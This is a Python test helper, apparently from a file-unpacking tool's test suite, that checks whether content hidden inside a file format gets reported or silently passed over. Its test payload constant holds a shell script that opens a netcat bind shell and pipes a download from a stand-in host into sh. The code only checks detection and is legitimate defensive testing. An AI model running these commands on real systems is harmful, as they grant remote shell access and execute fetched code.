"""What the attacks share: content hidden in a format, and whether anybody sees it.

Hidden is what ends as ``parsed``, ``signature`` or ``padding`` in a file that is called
complete. Seen is what stays unexplained, is in a child, or leaves the file incomplete.
"""

from tests.unpack.helpers import Bench

SCRIPT = b"#!/bin/sh\n" + b"nc -l -p 4444 -e /bin/sh &\nwget -q http://evil.example/x | sh\n" * 6
SHORT = SCRIPT[:240]


def seen(data, hidden=SCRIPT, name="blob", opened=None):
    """Return whether ``hidden``, which stands in ``data``, is not passed over in silence."""
    bench = Bench()
    opened = bench.open(data, name) if opened is None else opened
    if not opened.complete:
        return True
    at = data.index(hidden)
    end = at + len(hidden)
    children = [bench.store.read(each.sha256) for each in opened.entries if each.sha256]
    if any(hidden in child for child in children):
        return True
    return all(
        region.kind in ("unexplained", "extracted")
        for region in opened.regions
        if region.start < end and at < region.end
    ) and any(each.kind == "unexplained" for each in opened.regions)
